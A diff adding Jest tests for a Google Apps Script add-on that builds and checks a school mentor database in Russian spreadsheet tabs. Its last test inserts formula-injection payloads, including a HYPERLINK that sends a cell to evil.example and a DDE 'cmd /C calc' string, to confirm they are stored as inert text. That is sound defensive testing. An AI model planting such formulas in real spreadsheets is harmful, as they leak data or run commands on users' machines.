@@ -1,0 +1,142 @@
+import { checkBase } from "../../src/app/checkBase";
+import { initBase } from "../../src/app/initBase";
+import { MARK_COLORS } from "../../src/domain/marks";
+import { MENTORS, TABLES } from "../../src/domain/tables";
+import { COLUMN_KEY } from "../../src/gas/sheets";
+import { gasWorld, rowsOf, snapshotDiff, stableSnapshot, typeRow } from "../support/gas";
+
+type World = ReturnType<typeof gasWorld>;
+let w: World;
+beforeEach(() => {
+  w = gasWorld();
+});
+afterEach(() => w.uninstall());
+
+const mentorsSheet = () => w.ss.getSheetByName("Наставники")!;
+const headerIndex = (sheet: GoogleAppsScript.Spreadsheet.Sheet, header: string) =>
+  sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0]!.map(String).indexOf(header) + 1;
+
+const ANNA = {
+  ФИО: "Петрова Анна Сергеевна",
+  Категория: "педагог",
+  "Педагогический стаж, лет": 15,
+  "Компетенции (чем может помочь)": "подготовка к ОГЭ; классное руководство",
+  "Формы наставничества": "педагог – педагог",
+  "E-mail": "petrova@school7.ru",
+  "Согласие на обработку ПДн": true,
+};
+
+describe("«Создать / обновить базу» on the emulator", () => {
+  test("creates every tab with headers, notes, dropdowns, formats, frozen and protected headers, keys", () => {
+    w.run(() => initBase(w.ports()));
+    // The spreadsheet's own first tab stays; ours follow in order.
+    expect(w.ss.getSheets().map((s) => s.getName())).toEqual(["Лист1", ...TABLES.map((t) => t.title.ru)]);
+    const sheet = mentorsSheet();
+    expect(sheet.getFrozenRows()).toBe(1);
+    const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
+    expect(headers).toEqual(MENTORS.columns.map((c) => c.header.ru));
+    expect(sheet.getRange(1, 2).getNote()).toContain("Фамилия, имя, отчество");
+    expect(sheet.getRange(1, 2).getNote()).toContain("Обязательное поле.");
+    expect(sheet.getRange(1, 2).getFontWeight()).toBe("bold");
+
+    const category = sheet.getRange(2, headerIndex(sheet, "Категория")).getDataValidation()!;
+    expect(category.getCriteriaType()).toBe(SpreadsheetApp.DataValidationCriteria.VALUE_IN_LIST);
+    expect(category.getCriteriaValues()[0]).toContain("педагог");
+    expect(category.getAllowInvalid()).toBe(true);
+    const consent = sheet.getRange(500, headerIndex(sheet, "Согласие на обработку ПДн")).getDataValidation()!;
+    expect(consent.getCriteriaType()).toBe(SpreadsheetApp.DataValidationCriteria.CHECKBOX);
+    expect(sheet.getRange(2, headerIndex(sheet, "Телефон")).getNumberFormat()).toBe("@");
+
+    const protections = sheet.getProtections(SpreadsheetApp.ProtectionType.RANGE);
+    expect(protections.map((p) => p.getDescription()).sort()).toEqual([
+      "mentor-base: ID",
+      "mentor-base: заголовки",
+    ]);
+    expect(protections.every((p) => p.isWarningOnly())).toBe(true);
+    const kpi = w.ss.getSheetByName("Показатели")!;
+    expect(kpi.getProtections(SpreadsheetApp.ProtectionType.SHEET)[0]?.isWarningOnly()).toBe(true);
+
+    const keys = sheet
+      .getRange("B:B")
+      .getDeveloperMetadata()
+      .filter((m) => m.getKey() === COLUMN_KEY);
+    expect(keys.map((m) => m.getValue())).toEqual(["fullName"]);
+    const settings = rowsOf(w.ss, "Настройки");
+    expect(settings.find((r) => r.Код === "program.year")?.Значение).toBe("2026/2027");
+    expect(w.emu.ui.alerts.at(-1)?.prompt ?? JSON.stringify(w.emu.ui.alerts.at(-1))).toContain(
+      "Созданы листы",
+    );
+  });
+
+  test("running it again changes nothing in the spreadsheet", () => {
+    w.run(() => initBase(w.ports()));
+    typeRow(w.ss, "Наставники", ANNA);
+    w.run(() => checkBase(w.ports()));
+    const before = stableSnapshot(w.emu, w.ss);
+    w.run(() => initBase(w.ports()));
+    expect(snapshotDiff(stableSnapshot(w.emu, w.ss), before)).toEqual([]);
+  });
+
+  test("a curator's own, renamed, moved and deleted columns: data stays, the missing column comes back at the end", () => {
+    w.run(() => initBase(w.ports()));
+    const sheet = mentorsSheet();
+    const row = typeRow(w.ss, "Наставники", { ...ANNA, "Педагогический стаж, лет": "пять" });
+    // The curator inserts their own column before «ФИО», renames «ФИО», deletes «Телефон».
+    sheet.insertColumnBefore(2);
+    sheet.getRange(1, 2).setValue("Кружок");
+    sheet.getRange(row, 2).setValue("шахматы");
+    sheet.getRange(1, headerIndex(sheet, "ФИО")).setValue("Ф. И. О.");
+    sheet.deleteColumn(headerIndex(sheet, "Телефон"));
+    const lastBefore = sheet.getLastColumn();
+
+    w.run(() => initBase(w.ports()));
+    expect(sheet.getRange(1, lastBefore + 1).getValue()).toBe("Телефон");
+    expect(sheet.getRange(1, headerIndex(sheet, "Ф. И. О.")).getValue()).toBe("Ф. И. О.");
+    expect(sheet.getRange(row, 2).getValue()).toBe("шахматы");
+
+    const report = w.run(() => checkBase(w.ports()))!;
+    const stage = sheet.getRange(row, headerIndex(sheet, "Педагогический стаж, лет"));
+    expect(stage.getValue()).toBe("пять");
+    expect(stage.getBackground()).toBe(MARK_COLORS.error);
+    expect(sheet.getRange(row, 2).getNote()).toBe("");
+    expect(sheet.getRange(row, 2).getBackground()).toBe("#ffffff");
+    expect(report.problems.find((p) => p.table === "mentors")?.columnTitle).toBe("Педагогический стаж, лет");
+  });
+
+  test("a tab whose keys were lost (pasted from another file) is recognised by its name and headers", () => {
+    const sheet = w.ss.insertSheet("Наставники");
+    const headers = MENTORS.columns.map((c) => c.header.ru);
+    sheet.getRange(1, 1, 1, headers.length).setValues([headers]);
+    sheet.getRange(2, 2, 1, 2).setValues([["Орлова Вера Ивановна", "педагог"]]);
+    w.run(() => initBase(w.ports()));
+    expect(w.ss.getSheets().filter((s) => s.getName().startsWith("Наставники"))).toHaveLength(1);
+    expect(sheet.getLastColumn()).toBe(headers.length);
+    expect(sheet.getRange(2, 1).getValue()).toBe("НС-0001");
+    expect(sheet.getRange(2, 2).getValue()).toBe("Орлова Вера Ивановна");
+  });
+});
+
+describe("text written by the add-on cannot become a formula", () => {
+  test("strings starting with = + - @ are stored as text", () => {
+    w.run(() => initBase(w.ports()));
+    const p = w.ports();
+    const table = p.sheets.findTables().mentors!;
+    const attack = '=HYPERLINK("http://evil.example/?"&B2,"Подробнее")';
+    p.sheets.appendRows(table, [["", attack, "+A1+B1", "-2+3+cmd|' /C calc'!A0", "@cmd"]]);
+    p.sheets.writeColumns(table, [{ column: 6, firstRow: 2, values: ["=1+1"] }]);
+    const sheet = mentorsSheet();
+    expect(sheet.getRange(2, 2, 1, 4).getValues()[0]).toEqual([
+      attack,
+      "+A1+B1",
+      "-2+3+cmd|' /C calc'!A0",
+      "@cmd",
+    ]);
+    expect(sheet.getRange(2, 6).getValue()).toBe("=1+1");
+    expect(
+      sheet
+        .getRange(2, 1, 1, 6)
+        .getFormulas()[0]!
+        .every((f) => f === ""),
+    ).toBe(true);
+  });
+});
